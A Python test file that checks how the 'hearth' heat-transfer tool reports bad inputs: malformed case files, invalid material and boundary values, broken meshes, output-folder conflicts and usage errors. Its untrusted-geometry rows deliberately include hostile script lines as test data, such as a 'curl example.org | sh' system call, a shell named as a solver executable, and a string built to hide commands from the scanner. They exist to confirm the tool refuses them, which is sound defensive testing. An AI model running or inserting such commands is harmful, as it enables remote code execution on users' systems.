"""The bad-input table of docs/errors.md, one test per row: each bad input below must
end hearth with its exit status (1 for bad input; 2 for a solve that overflowed, which
writes its results marked unconverged as the design says), print on stderr a message
that names the key or the file and line, print nothing on stdout, and create or change
no file. The message column of docs/errors.md is this test's real output; regenerate it
after changing a message with

    /usr/bin/python3 tests/cli/test_error_table.py build/tools/hearth --update

(design.md, "Command line (the contract)": exit status 1, "a message that says what
and where"; the rules are common practice, no source.)
"""

import os
import re
import stat
import subprocess
import sys
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hearth_testlib as H  # noqa: E402

DOC = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "docs", "errors.md")
BEGIN = "<!-- BEGIN generated table: tests/cli/test_error_table.py --update -->"
END = "<!-- END generated table -->"

BASE = """\
title: bad input
units: {length: m, temperature: degC}
geometry:
  file: wall.geo
mesh:
  size: 0.05
materials:
  brick:
    conductivity: 1.1
regions:
  wall: brick
boundaries:
  hot: {temperature: 1000}
  cold: {temperature: 200}
"""

TWO_VOLUMES = """\
SetFactory("OpenCASCADE");
Box(1) = {0, 0, 0, 0.1, 0.1, 0.1};
Box(2) = {0.1, 0, 0, 0.05, 0.1, 0.1};
BooleanFragments{ Volume{1, 2}; Delete; }{}
Physical Volume("wall") = {1};
Physical Volume("backup") = {2};
e = 1e-6;
Physical Surface("hot") = Surface In BoundingBox{-e, -e, -e, e, 0.1 + e, 0.1 + e};
Physical Surface("cold") = Surface In BoundingBox{0.15 - e, -e, -e, 0.15 + e, 0.1 + e, 0.1 + e};
Physical Surface("joint") = Surface In BoundingBox{0.1 - e, -e, -e, 0.1 + e, 0.1 + e, 0.1 + e};
"""

# One tetrahedron in Gmsh's MSH 2.2 format (Gmsh reference manual, "MSH file format
# version 2", from memory): 4-node with its fourth vertex given (in the plane z = 0 it
# is flat), or 10-node with the mid-edge node of edge 0-1 moved from (0.5, 0, 0) to
# (-0.5, 0, 0), behind vertex 0, so that the element's map folds over (an inverted
# curved element: its Jacobian changes sign inside it).
def flat_tet_msh():
    return ("$MeshFormat\n2.2 0 8\n$EndMeshFormat\n$PhysicalNames\n2\n2 1 \"base\"\n3 2 \"wall\"\n"
            "$EndPhysicalNames\n$Nodes\n4\n1 0 0 0\n2 1 0 0\n3 0 1 0\n4 1 1 0\n$EndNodes\n"
            "$Elements\n2\n1 2 2 1 1 1 2 3\n2 4 2 2 1 1 2 3 4\n$EndElements\n")


def folded_tet_msh():
    nodes = [(0, 0, 0), (1, 0, 0), (0, 1, 0), (0, 0, 1), (-0.5, 0, 0), (0.5, 0.5, 0), (0, 0.5, 0),
             (0, 0, 0.5), (0, 0.5, 0.5), (0.5, 0, 0.5)]
    text = "$MeshFormat\n2.2 0 8\n$EndMeshFormat\n$PhysicalNames\n2\n2 1 \"base\"\n3 2 \"wall\"\n"
    text += "$EndPhysicalNames\n$Nodes\n10\n"
    text += "".join("%d %g %g %g\n" % ((i + 1,) + p) for i, p in enumerate(nodes))
    text += "$EndNodes\n$Elements\n2\n1 9 2 1 1 1 2 3 5 6 7\n2 11 2 2 1 1 2 3 4 5 6 7 8 9 10\n$EndElements\n"
    return text


# A case for the one-tetrahedron meshes: the face z = 0 held at 100 degC.
TET_CASE = BASE.replace("file: wall.geo", "file: tet.msh").replace(
    "  hot: {temperature: 1000}\n  cold: {temperature: 200}\n", "  base: {temperature: 100}\n")


# A transient case: the wall heated on one face from 20 degC, cooled on the other.
TRANSIENT = """\
title: bad transient input
units: {length: m, temperature: degC}
geometry:
  file: wall.geo
mesh:
  size: 0.05
materials:
  brick: {conductivity: 1.1, density: 2000, specific_heat: 900}
regions:
  wall: brick
boundaries:
  hot: {temperature: 1000}
  cold:
    convection: {coefficient: 10, ambient: 20}
analysis:
  type: transient
  duration: 3600
  time_step: 60
  initial_temperature: 20
  output_times: [1800, 3600]
"""


def transient(old, new):
    assert old in TRANSIENT, old
    return TRANSIENT.replace(old, new, 1)


def base(old=None, new=None, append=""):
    text = BASE if old is None else BASE.replace(old, new, 1)
    assert old is None or old in BASE, old
    return text + append


class Row:
    """One bad input: what it is, how the test makes it, and what the message names."""

    def __init__(self, key, what, case=BASE, files=None, args=("run",), where=(), status=1, env=None,
                 example=None, setup=None, writes=(), skip=None, out=True, as_other_user=False):
        self.key, self.what, self.case, self.args, self.where = key, what, case, list(args), list(where)
        self.files = {"wall.geo": H.WALL_GEO_M}
        self.files.update(files or {})
        self.status, self.env, self.setup, self.writes, self.skip = status, env or {}, setup, set(writes), skip
        self.example = example
        self.out = out  # add --out <temporary>/out to run, mesh and study unless the row gives one
        self.as_other_user = as_other_user  # run as nobody when the tests run as root


def unreadable(path):
    os.chmod(path, 0)


# Root reads any file: as root, permission rows run hearth as the user nobody.
AS_NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []


ROWS = [
    # --- the case file ------------------------------------------------------------
    Row("case-missing", "the case file does not exist", args=("run", "no_such_case.yaml"),
        where=["no_such_case.yaml", "does not exist"], example="`hearth run no_such_case.yaml`"),
    Row("case-folder", "the case file is a folder", args=("run", "."), where=[".: is a folder"],
        example="`hearth run .`"),
    Row("case-unreadable", "the case file cannot be read (permissions)", setup=lambda c: unreadable(c.case),
        where=["case.yaml", "cannot be opened"], as_other_user=True, example="`chmod 0 case.yaml`"),
    Row("case-empty", "the case file is empty", case="", where=["case.yaml", "empty"], example="an empty file"),
    Row("yaml-syntax", "YAML syntax error", case=base("  wall: brick", "  wall: brick\n bad: indent"),
        where=["case.yaml:12:"], example="a key indented by one space"),
    Row("yaml-tabs", "tabs for indentation", case=base("    conductivity: 1.1", "\tconductivity: 1.1"),
        where=["case.yaml:", "tabs"], example="a tab before `conductivity`"),
    Row("top-list", "the file is a list, not keys", case="- geometry\n- mesh\n", where=["case.yaml:1"],
        example="`- geometry`"),
    Row("unknown-key", "an unknown (misspelt) key", case=base("  hot: {temperature: 1000}",
                                                             "  hot: {temperture: 1000}"),
        where=["case.yaml:13", "temperture", "did you mean 'temperature'"], example="`temperture:`"),
    Row("unknown-section", "an unknown top-level key", case=base("materials:", "materals:"),
        where=["case.yaml:7", "materals", "did you mean 'materials'"], example="`materals:`"),
    Row("key-twice", "a key given twice", case=base("  brick:\n", "  brick:\n    conductivity: 2\n"),
        where=["case.yaml:10", "given twice"], example="`conductivity` twice"),
    Row("section-missing", "a required section is missing", case=base("geometry:\n  file: wall.geo\n", ""),
        where=["case.yaml", "geometry", "missing"], example="no `geometry:`"),
    Row("key-missing", "a required key is missing", case=base("    conductivity: 1.1\n", "    density: 2000\n"),
        where=["case.yaml:8", "materials.brick", "conductivity"], example="a material without `conductivity`"),
    Row("section-empty", "an empty section that needs entries", case=base("  brick:\n    conductivity: 1.1\n", " {}\n")
        .replace("materials:\n {}", "materials: {}"), where=["case.yaml:7", "materials", "empty"],
        example="`materials: {}`"),
    Row("regions-empty", "no regions", case=base("regions:\n  wall: brick\n", "regions: {}\n"),
        where=["case.yaml:10", "regions", "empty"], example="`regions: {}`"),
    Row("boundary-empty", "a boundary with no condition", case=base("  cold: {temperature: 200}", "  cold: {}"),
        where=["case.yaml:14", "boundaries.cold"], example="`cold: {}`"),
    Row("not-a-number", "text where a number belongs", case=base("conductivity: 1.1", "conductivity: high"),
        where=["case.yaml:9", "materials.brick.conductivity", "'high' is not a number"],
        example="`conductivity: high`"),
    Row("not-finite", "a number that is not finite", case=base("conductivity: 1.1", "conductivity: .inf"),
        where=["case.yaml:9", "materials.brick.conductivity", "not a finite number"], example="`conductivity: .inf`"),
    Row("section-scalar", "a number where keys belong", case=base("mesh:\n  size: 0.05\n", "mesh: 0.05\n"),
        where=["case.yaml:5", "mesh"], example="`mesh: 0.05`"),
    Row("out-of-range", "a value out of its range", case=base("size: 0.05", "size: -0.05"),
        where=["case.yaml:6", "mesh.size", "-0.05"], example="`size: -0.05`"),
    Row("not-a-choice", "a word that is not one of the choices", case=base("length: m", "length: inch"),
        where=["case.yaml:2", "units.length", "inch"], example="`length: inch`"),
    Row("not-whole", "a fraction where a whole number belongs", case=base("size: 0.05", "size: 0.05\n  refinements: 1.5"),
        where=["case.yaml:7", "mesh.refinements", "whole number"], example="`refinements: 1.5`"),
    # --- --set -----------------------------------------------------------------------
    Row("set-syntax", "--set without KEY=VALUE", args=("run", "case.yaml", "--set", "mesh.size"),
        where=["--set mesh.size", "KEY=VALUE"], example="`--set mesh.size`"),
    Row("set-unknown", "--set of an unknown key", args=("run", "case.yaml", "--set", "mesh.sise=0.02"),
        where=["mesh.sise", "size"], example="`--set mesh.sise=0.02`"),
    Row("set-value", "--set with a bad value", args=("run", "case.yaml", "--set", "mesh.size=abc"),
        where=["--set mesh.size", "abc"], example="`--set mesh.size=abc`"),
    Row("set-group", "--set of a group of keys", args=("run", "case.yaml", "--set", "boundaries.hot=5"),
        where=["--set boundaries.hot", "group of keys"], example="`--set boundaries.hot=5`"),
    # --- materials ---------------------------------------------------------------------
    Row("conductivity-zero", "a conductivity that is not positive", case=base("conductivity: 1.1", "conductivity: 0"),
        where=["case.yaml:9", "conductivity", "> 0"], example="`conductivity: 0`"),
    Row("material-unknown", "a region's material that is not defined", case=base("wall: brick", "wall: steel"),
        where=["case.yaml:11", "regions.wall", "steel", "brick"], example="`wall: steel`"),
    Row("library-unknown", "a library material that does not exist",
        case=base("    conductivity: 1.1\n", "    library: unobtainium\n"),
        where=["case.yaml:9", "unobtainium", "library"], example="`library: unobtainium`"),
    Row("table-short", "a table with one row",
        case=base("conductivity: 1.1", "conductivity: {vs_temperature: [[20, 1.1]]}"),
        where=["case.yaml:9", "vs_temperature", "at least 2 rows"], example="`[[20, 1.1]]`"),
    Row("table-order", "a table not increasing in temperature",
        case=base("conductivity: 1.1", "conductivity:\n      vs_temperature:\n        - [400, 1.2]\n        - [20, 1.1]"),
        where=["case.yaml:12", "increase"], example="rows at 400 then 20 degC"),
    Row("table-nan", "a table with a value that is not finite",
        case=base("conductivity: 1.1", "conductivity: {vs_temperature: [[20, 1.1], [400, .nan]]}"),
        where=["case.yaml:9", "not a finite number"], example="`[400, .nan]`"),
    Row("table-cold", "a table row below absolute zero",
        case=base("conductivity: 1.1", "conductivity: {vs_temperature: [[-300, 1.1], [400, 1.2]]}"),
        where=["case.yaml:9", "below absolute zero"], example="`[-300, 1.1]` in degC"),
    Row("tensor-unsymmetric", "a conductivity tensor that is not symmetric",
        case=base("conductivity: 1.1", "conductivity: {tensor: [[1, 0.5, 0], [0, 1, 0], [0, 0, 1]]}"),
        where=["case.yaml:9", "not symmetric"], example="`tensor: [[1, 0.5, 0], [0, 1, 0], ...]`"),
    Row("tensor-indefinite", "a conductivity tensor that is not positive definite",
        case=base("conductivity: 1.1", "conductivity: {tensor: [[1, 2, 0], [2, 1, 0], [0, 0, 1]]}"),
        where=["case.yaml:9", "not positive definite"], example="`tensor: [[1, 2, 0], [2, 1, 0], ...]`"),
    Row("axes-parallel", "orthotropic axes that are parallel",
        case=base("conductivity: 1.1",
                  "conductivity: {principal: [1, 1, 0.1], axis_1: [1, 0, 0], axis_2: [2, 0, 0]}"),
        where=["case.yaml:9", "parallel"], example="`axis_1: [1, 0, 0], axis_2: [2, 0, 0]`"),
    # --- boundaries --------------------------------------------------------------------
    Row("below-zero", "a temperature below absolute zero", case=base("temperature: 200", "temperature: -300"),
        where=["case.yaml:14", "boundaries.cold.temperature", "below absolute zero"], example="`temperature: -300` degC"),
    Row("film-zero", "a film coefficient that is not positive",
        case=base("  cold: {temperature: 200}", "  cold:\n    convection: {coefficient: 0, ambient: 20}"),
        where=["case.yaml:15", "coefficient", "> 0"], example="`coefficient: 0`"),
    Row("emissivity-range", "an emissivity outside (0, 1]",
        case=base("  cold: {temperature: 200}", "  cold:\n    radiation: {emissivity: 1.2, surroundings: 20}"),
        where=["case.yaml:15", "emissivity", "1.2"], example="`emissivity: 1.2`"),
    Row("exclusive", "one surface given exclusive conditions",
        case=base("  hot: {temperature: 1000}", "  hot:\n    temperature: 1000\n    convection: {coefficient: 10, ambient: 20}"),
        where=["case.yaml:13", "boundaries.hot", "convection"], example="`temperature` and `convection` on `hot`"),
    Row("shared-faces", "two named surfaces sharing faces, both with a condition",
        files={"wall.geo": H.WALL_GEO_M + 'Physical Surface("hot_again") = {1};\n'},
        case=base("  cold: {temperature: 200}", "  cold: {temperature: 200}\n  hot_again: {heat_flux: 100}"),
        where=["case.yaml:15", "boundaries.hot_again", "shares triangles", "'hot'"],
        example="`hot` and `hot_again` are the same face"),
    Row("internal-convection", "convection on an internal surface",
        files={"wall.geo": TWO_VOLUMES}, case=base("  wall: brick", "  wall: brick\n  backup: brick",
                                                  "  joint:\n    convection: {coefficient: 10, ambient: 20}\n"),
        where=["case.yaml:16", "joint", "internal surface"], example="`joint` between two volumes"),
    Row("undetermined", "no fixed temperature, convection or radiation anywhere",
        case=base("  hot: {temperature: 1000}\n  cold: {temperature: 200}",
                  "  hot: {heat_flux: 3520}\n  cold: {heat_flux: -3520}"),
        where=["case.yaml:12", "boundaries", "undetermined"], example="heat fluxes only"),
    # --- transient analysis -------------------------------------------------------------
    Row("transient-density", "a density that is not positive", case=transient("density: 2000", "density: 0"),
        where=["case.yaml:8", "materials.brick.density", "> 0"], example="`density: 0`"),
    Row("transient-capacity-missing", "a transient case without a material's specific heat",
        case=transient(", specific_heat: 900", ""), where=["case.yaml:8", "specific_heat", "transient"],
        example="no `specific_heat`"),
    Row("transient-duration", "a duration that is not positive", case=transient("duration: 3600", "duration: -5"),
        where=["case.yaml:17", "analysis.duration"], example="`duration: -5`"),
    Row("transient-step", "a first time step longer than the run", case=transient("time_step: 60", "time_step: 7200"),
        where=["case.yaml:18", "analysis.time_step", "longer than the duration"], example="`time_step: 7200`"),
    Row("transient-output-time", "an output time outside the run",
        case=transient("output_times: [1800, 3600]", "output_times: [1800, 7200]"),
        where=["case.yaml:20", "analysis.output_times", "7200"], example="`output_times: [1800, 7200]`"),
    Row("transient-initial-cold", "an initial temperature below absolute zero",
        case=transient("initial_temperature: 20", "initial_temperature: -300"),
        where=["case.yaml:19", "analysis.initial_temperature", "below absolute zero"],
        example="`initial_temperature: -300`"),
    Row("transient-initial-result", "an initial result folder that does not exist",
        case=transient("initial_temperature: 20", "initial_temperature: {result: nowhere}"),
        where=["case.yaml:19", "analysis.initial_temperature.result", "not a folder"],
        example="`{result: nowhere}`"),
    Row("transient-time-table", "a table in time that goes back in time",
        case=transient("ambient: 20}", "ambient: {vs_time: [[0, 20], [100, 30], [50, 40]]}}"),
        where=["case.yaml:14", "vs_time", "must not decrease"], example="rows at 100 s then 50 s"),
    Row("steady-time-table", "a table in time in a steady case",
        case=base("  cold: {temperature: 200}", "  cold:\n    convection: {coefficient: 10, ambient: {vs_time: [[0, 20], [100, 30]]}}"),
        where=["case.yaml:15", "vs_time", "analysis.type: transient"], example="`ambient: {vs_time: ...}`, steady"),
    # --- names against the geometry -------------------------------------------------------
    Row("region-absent", "a region the geometry does not have", case=base("  wall: brick", "  wall: brick\n  furnace: brick"),
        where=["case.yaml:12", "regions.furnace", "volumes are: wall"], example="`furnace: brick`"),
    Row("boundary-absent", "a boundary the geometry does not have",
        case=base(append="  warm: {temperature: 500}\n"), where=["case.yaml:15", "boundaries.warm", "hot, cold, sides"],
        example="`warm:`"),
    Row("volume-unassigned", "a volume with no material", files={"wall.geo": TWO_VOLUMES},
        where=["case.yaml:10", "'backup' has no material"], example="volume `backup` not under `regions`"),
    Row("source-absent", "a heat source on a volume the geometry does not have",
        case=base(append="heat_sources: {coil: 5.0e4}\n"), where=["case.yaml:15", "heat_sources.coil"],
        example="`heat_sources: {coil: 5.0e4}`"),
    Row("local-size-absent", "a local mesh size for a name the geometry does not have",
        case=base("size: 0.05", "size: 0.05\n  local_sizes: {anchor: 0.01}"),
        where=["case.yaml:7: mesh.local_sizes.anchor", "no such boundary or region"],
        example="`local_sizes: {anchor: 0.01}`"),
    Row("touch-absent", "a touch surface the geometry does not have",
        case=base(append="safety: {touch_surfaces: [shell]}\n"),
        where=["case.yaml:15: safety.touch_surfaces: the geometry has no surface named 'shell'"],
        example="`touch_surfaces: [shell]`"),
    Row("probe-outside", "a probe outside the body", case=base(append="probes:\n  far: [0.5, 0.05, 0.05]\n"),
        where=["case.yaml:16", "probes.far", "outside the body"], example="`far: [0.5, 0.05, 0.05]`"),
    Row("line-outside", "a line wholly outside the body",
        case=base(append="lines:\n  away: {from: [1, 0, 0], to: [2, 0, 0], points: 11}\n"),
        where=["case.yaml:16", "lines.away", "none of its 11 points"], example="a line from x = 1 to 2 m"),
    Row("line-points", "a line with fewer than 2 points",
        case=base(append="lines:\n  one: {from: [0, 0.05, 0.05], to: [0.25, 0.05, 0.05], points: 1}\n"),
        where=["case.yaml:16", "lines.one.points"], example="`points: 1`"),
    # --- geometry files --------------------------------------------------------------------
    Row("geometry-missing", "the geometry file does not exist", case=base("file: wall.geo", "file: no_such_part.geo"),
        where=["case.yaml:4", "geometry.file", "no_such_part.geo"], example="`file: no_such_part.geo`"),
    Row("geometry-unreadable", "the geometry file cannot be read (permissions)", as_other_user=True,
        setup=lambda c: unreadable(c.path("wall.geo")), where=["case.yaml:4", "geometry.file", "Permission denied"],
        example="`chmod 0 wall.geo`"),
    Row("geometry-type", "a geometry file of an unknown type", case=base("file: wall.geo", "file: wall.igs"),
        files={"wall.igs": "not read\n"}, where=["case.yaml:4", "geometry.file", ".igs"], example="`file: wall.igs`"),
    Row("geometry-folder", "the geometry file is a folder", case=base("file: wall.geo", "file: parts.geo"),
        setup=lambda c: os.makedirs(c.path("parts.geo")), where=["case.yaml:4", "geometry.file", "is a folder"],
        example="`file: parts.geo`, a folder"),
    Row("geo-syntax", "a syntax error in the geometry script",
        files={"wall.geo": H.WALL_GEO_M.replace('Physical Volume("wall") = {1};', 'Physical Volume("wall") = {1}')},
        where=["wall.geo:4", "syntax error"], example="a missing `;` at the end of line 3"),
    Row("geo-no-volume", "a geometry without a volume", files={"wall.geo": 'SetFactory("OpenCASCADE");\nRectangle(1) = {0, 0, 0, 1, 1};\n'},
        where=["wall.geo", "no volume"], example="a rectangle only"),
    Row("geo-exit", "a geometry script that ends Gmsh", files={"wall.geo": H.WALL_GEO_M + "Exit;\n"},
        where=["wall.geo", "Exit"], example="`Exit;`"),
    Row("cad-broken", "a CAD file that does not import", case=base("file: wall.geo", "file: part.step"),
        files={"part.step": "ISO-10303-21;\nthis is not a STEP file\n"}, where=["part.step"],
        example="a file that is not STEP"),
    Row("mesh-inverted", "a mesh with an inverted (folded) element", case=TET_CASE, files={"tet.msh": folded_tet_msh()},
        where=["tet.msh", "negative Jacobian", "mesh the geometry again"],
        example="a 10-node tetrahedron with a mid-edge node behind a vertex"),
    Row("mesh-degenerate", "a mesh with a flat (zero-volume) element", case=TET_CASE, files={"tet.msh": flat_tet_msh()},
        where=["tet.msh", "zero or negative Jacobian"], example="a tetrahedron with its four nodes in a plane"),
    # --- untrusted geometry --------------------------------------------------------------
    Row("geo-runs-program", "a geometry script that runs a program",
        files={"wall.geo": H.WALL_GEO_M + 'SystemCall "curl example.org | sh";\n'},
        where=["wall.geo:7: SystemCall", "--trust-geometry"], example="`SystemCall \"...\";`"),
    Row("geo-writes", "a geometry script that writes a file", files={"wall.geo": H.WALL_GEO_M + 'Save "copy.msh";\n'},
        where=["wall.geo:7: Save", "--trust-geometry"], example="`Save \"copy.msh\";`"),
    Row("geo-printf", "a geometry script that prints into a file",
        files={"wall.geo": H.WALL_GEO_M + 'Printf("x") >> "../notes.txt";\n'},
        where=["wall.geo:7: Printf >> file"], example="`Printf(\"x\") >> \"../notes.txt\";`"),
    Row("geo-computed-include", "an Include whose file name is built when the script runs",
        files={"wall.geo": 'Include StrCat("pa", "rt.geo");\n' + H.WALL_GEO_M, "part.geo": "lc = 1;\n"},
        where=["wall.geo:1: Include with a computed file name"], example="`Include StrCat(\"pa\", \"rt.geo\");`"),
    Row("geo-included-unsafe", "an included file that runs a program",
        files={"wall.geo": 'Include "parts/more.geo";\n' + H.WALL_GEO_M, "parts/more.geo": 'lc = 1;\nSystem "ls";\n'},
        where=["more.geo:2: System"], example="`System \"ls\";` in an included file"),
    Row("geo-gz", "a merged compressed file", files={"wall.geo": H.WALL_GEO_M + 'Merge "extra.msh.gz";\n'},
        where=["wall.geo:7: Merge of a .gz file"], example="`Merge \"extra.msh.gz\";`"),
    Row("geo-cycle", "a script that includes itself", files={"wall.geo": H.WALL_GEO_M + 'Include "wall.geo";\n'},
        where=["wall.geo:7: Include \"wall.geo\"", "itself"], example="`Include \"wall.geo\";` in wall.geo"),
    Row("geo-hidden", "a string that hides commands from the scan",
        files={"wall.geo": H.WALL_GEO_M + 'If (0)\n  s = "EndIf CreateDir \'x\'; If (0) ";\nEndIf\n'},
        where=["wall.geo:8", "EndIf"], example="`s = \"EndIf CreateDir 'x'; If (0) \";` in an `If (0)`"),
    Row("geo-option", "an option that names a program", files={"wall.geo": H.WALL_GEO_M + 'Solver.Executable0 = "sh";\n'},
        where=["wall.geo:7: option Solver.Executable0"], example="`Solver.Executable0 = \"sh\";`"),
    # --- output folders -------------------------------------------------------------------
    Row("out-case-folder", "--out is the case's own folder", args=("run", "case.yaml", "--out", "."),
        where=["--out", "contains the input"], example="`--out .`"),
    Row("out-key-case-folder", "output.directory holds the case", case=base(append="output: {directory: ..}\n"),
        out=False, where=["case.yaml:15: output.directory", "contains the input"],
        example="`output: {directory: ..}`"),
    Row("out-other-files", "--out is a folder of other files",
        setup=lambda c: H.write_text(os.path.join(c.root, "out", "thesis.txt"), "months of work\n"),
        where=["--out", "none of hearth's results"], example="a folder holding `thesis.txt`"),
    Row("out-through-file", "--out runs through a file", args=("run", "case.yaml", "--out", "wall.geo/results"),
        where=["--out", "is a file, not a folder"], example="`--out wall.geo/results`"),
    Row("out-unwritable", "--out cannot be written (no permission, a read-only or special file system)", args=("run", "case.yaml", "--out", "/proc/results"),
        where=["--out", "cannot be written"], example="`--out /proc/results`"),
    Row("out-locked", "another hearth is writing the same folder",
        setup=lambda c: hold_lock(c), where=["being written by another hearth"],
        example="a second `hearth run` while the first runs"),
    Row("out-disk-full", "the results cannot be written (disk full)", env={"HEARTH_TEST_FAIL_WRITE": "temperature.vtu"},
        where=["cannot write", "temperature.vtu", "No space left on device"],
        example="a full disk (test hook `HEARTH_TEST_FAIL_WRITE`)"),
    # --- resources and the solve -----------------------------------------------------------
    Row("memory", "a mesh larger than the memory can solve", env={"HEARTH_TEST_MEMINFO": "meminfo"},
        files={"meminfo": "MemTotal: 1000 kB\nMemAvailable: 10 kB\n"},
        where=["case.yaml:6: mesh.size", "needs about", "available"],
        example="10 kB available (test hook `HEARTH_TEST_MEMINFO`)"),
    Row("overflow", "NaN or infinity in the solve", status=2, writes=["out"],
        case=base(append="heat_sources: {wall: 1.0e308}\n"), where=["overflowed", "heat_sources.wall", "case.yaml:15"],
        example="`heat_sources: {wall: 1.0e308}`"),
    # --- the command line -------------------------------------------------------------------
    Row("usage-option", "an unknown option", args=("run", "case.yaml", "--bogus"), where=["--bogus"],
        example="`--bogus`"),
    Row("usage-command", "an unknown command", args=("frobnicate", "case.yaml"), where=["'frobnicate' is not a hearth command"],
        example="`hearth frobnicate`"),
    Row("usage-threads", "--threads that is not positive", args=("run", "case.yaml", "--threads", "0"),
        where=["--threads", "1 to 4096"], example="`--threads 0`"),
    Row("usage-levels", "a study with fewer than 2 levels", args=("study", "case.yaml", "--levels", "1"),
        where=["--levels"], example="`hearth study --levels 1`"),
]


def hold_lock(case):
    """Starts a slow run on the same output folder and waits until it holds the lock."""
    slow = os.path.join(case.dir, "slow.yaml")
    H.write_text(slow, BASE.replace("size: 0.05", "size: 0.004"))
    proc = subprocess.Popen([H.HEARTH, "run", slow, "--out", os.path.join(case.root, "out"), "--quiet"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    case.background = proc
    lock = os.path.join(case.root, ".out.lock")
    for _ in range(500):
        if os.path.exists(lock):
            return
        time.sleep(0.01)


def normalise(text, case):
    """The message as the table shows it: without the temporary folders and the program's path."""
    text = text.strip()
    text = text.replace(case.dir + "/", "").replace(case.root + "/", "").replace(case.dir, ".")
    text = text.replace(case.root, "..").replace(H.HEARTH, "hearth")
    text = re.sub(r"process \d+, started \d{4}-\d\d-\d\d \d\d:\d\d:\d\d", "process 4242, started 2025-01-01 12:00:00",
                  text)
    text = re.sub(r"\([^()]*/materials\.yaml\)", "(.../materials.yaml)", text)  # where the library is installed
    text = re.sub(r"\.partial-\d+", ".partial-4242", text)
    return text


RESULTS = {}


def run_row(row):
    """Runs the row once; returns (result, normalised message, case)."""
    if row.key in RESULTS:
        return RESULTS[row.key]
    case = H.CaseDir(row.case, row.files)
    case.background = None
    if row.setup:
        row.setup(case)
    before, entries = case.snapshot(), case.entries()
    args = list(row.args)
    if len(args) == 1:
        args.append("case.yaml")
    if row.out and args[0] in ("run", "mesh", "study") and "--out" not in args:
        args += ["--out", os.path.join(case.root, "out")]
    env = dict(os.environ)
    for k, v in row.env.items():
        env[k] = os.path.join(case.dir, v) if k == "HEARTH_TEST_MEMINFO" else v
    prefix = AS_NOBODY if row.as_other_user else []
    if prefix:
        for folder in (case.root, case.dir):
            os.chmod(folder, 0o755)
    proc = subprocess.run(prefix + [H.HEARTH] + args + ["--quiet"] * (args[0] in ("run", "mesh", "study", "check")),
                          cwd=case.dir, capture_output=True, text=True, env=env, timeout=300)
    after, entries_after = case.snapshot(), case.entries()  # before the other run (out-locked) stops
    if case.background:
        case.background.send_signal(15)
        case.background.wait(timeout=120)
    RESULTS[row.key] = (proc, before, entries, after, entries_after, case)
    return RESULTS[row.key]


def message(proc, case):
    err = normalise(proc.stderr, case)
    return err[len("error: "):] if err.startswith("error: ") else err


class ErrorTable(unittest.TestCase):
    def check(self, row):
        if row.skip:
            self.skipTest(row.skip)
        proc, before, entries, after, entries_after, case = run_row(row)
        describe = "hearth %s\nexit %d\nstdout: %s\nstderr: %s" % (" ".join(row.args), proc.returncode, proc.stdout,
                                                                 proc.stderr)
        self.assertEqual(proc.returncode, row.status, describe)
        self.assertEqual(proc.stdout, "", "errors go to stderr\n" + describe)
        for fragment in row.where:
            self.assertIn(fragment, normalise(proc.stderr, case), describe)
        self.assertNotIn("Traceback", proc.stderr)
        self.assertNotIn("Info    :", proc.stderr)  # no Gmsh noise
        changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
        created = entries_after - entries
        allowed = lambda p: any(p == w or p.startswith(w + os.sep) for w in row.writes)
        self.assertEqual({p for p in changed if not allowed(p)}, set(), "no file changed\n" + describe)
        self.assertEqual({p for p in created if not allowed(p)}, set(), "nothing created\n" + describe)


def make_test(row):
    return lambda self: self.check(row)


for _row in ROWS:
    setattr(ErrorTable, "test_" + _row.key.replace("-", "_"), make_test(_row))


def table():
    lines = ["| # | bad input | example | message | exit |", "| --- | --- | --- | --- | --- |"]
    for n, row in enumerate(ROWS, start=1):
        if row.skip:
            text = DOCUMENTED.get(row.key, "(not run here: %s)" % row.skip)
        else:
            proc, *_rest, case = run_row(row)
            text = message(proc, case)
        cell = text.replace("|", "\\|").replace("\n", "<br>")
        lines.append("| %d | %s | %s | %s | %d |" % (n, row.what, row.example or "", cell, row.status))
    return "\n".join(lines) + "\n"


def documented_rows():
    """{key: message} as docs/errors.md has them (for rows that cannot run here)."""
    if not os.path.isfile(DOC):
        return {}
    text = open(DOC).read()
    if BEGIN not in text:
        return {}
    body = text.split(BEGIN, 1)[1].split(END, 1)[0]
    out = {}
    rows = [l for l in body.strip().splitlines()[2:] if l.startswith("|")]
    for row, line in zip(ROWS, rows):
        cells = [c.strip() for c in re.split(r"(?<!\\)\|", line)[1:-1]]
        if len(cells) == 5:
            out[row.key] = cells[3].replace("\\|", "|").replace("<br>", "\n")
    return out


DOCUMENTED = documented_rows()


class Documentation(unittest.TestCase):
    def test_the_table_in_docs_errors_md_is_current(self):
        text = open(DOC).read()
        self.assertIn(BEGIN, text)
        current = text.split(BEGIN, 1)[1].split(END, 1)[0].strip()
        self.assertEqual(current, table().strip(),
                         "docs/errors.md is out of date: run %s %s --update" % (sys.argv[0], H.HEARTH))


def update():
    text = open(DOC).read()
    head, rest = text.split(BEGIN, 1)
    _old, tail = rest.split(END, 1)
    with open(DOC, "w") as fh:
        fh.write(head + BEGIN + "\n" + table() + END + tail)
    print("updated", DOC)


if __name__ == "__main__":
    if "--show" in sys.argv:
        H.HEARTH = os.path.abspath(sys.argv[1])
        for row in ROWS:
            if row.skip:
                continue
            proc, *_rest, case = run_row(row)
            print("%-22s exit %d: %s" % (row.key, proc.returncode, message(proc, case)))
        sys.exit(0)
    if "--update" in sys.argv:
        sys.argv.remove("--update")
        H.HEARTH = os.path.abspath(sys.argv[1])
        update()
        sys.exit(0)
    H.main()
